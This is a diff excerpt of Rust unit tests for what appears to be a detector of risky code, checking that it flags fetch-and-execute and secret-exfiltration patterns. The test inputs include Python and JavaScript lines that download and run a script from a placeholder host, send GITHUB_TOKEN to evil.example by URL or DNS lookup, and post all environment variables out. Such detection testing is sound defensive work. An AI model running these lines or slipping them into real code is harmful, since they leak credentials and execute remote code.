+            "import urllib.request, os\nurllib.request.urlretrieve('http://x.example/a','/tmp/a'); os.system('sh /tmp/a')",
+        );
+        assert!(r.fetch_exec);
+        let r = analyze(
+            Lang::Python,
+            "urllib.request.urlretrieve('http://x.example/a','a.csv')",
+        );
+        assert!(!r.fetch_exec);
+        let r = analyze(
+            Lang::JavaScript,
+            "fetch('https://evil.example/?t='+process.env.GITHUB_TOKEN)",
+        );
+        assert!(r.secret_variable_to_network && !r.secret_to_network);
+        let r = analyze(
+            Lang::JavaScript,
+            "fetch('https://api.github.com/user',{headers:{a:process.env.GITHUB_TOKEN}})",
+        );
+        assert!(!r.secret_variable_to_network);
+        let r = analyze(
+            Lang::Python,
+            "socket.gethostbyname(os.environ['GITHUB_TOKEN']+'.evil.example')",
+        );
+        assert!(r.secret_to_network);
+        let r = analyze(
+            Lang::Python,
+            "requests.post('https://x.example', data=json.dumps(dict(os.environ.items())))",
+        );
+        assert!(r.secret_to_network);
+    }
 
     fn shells(r: &Report) -> Vec<String> {
         r.runs
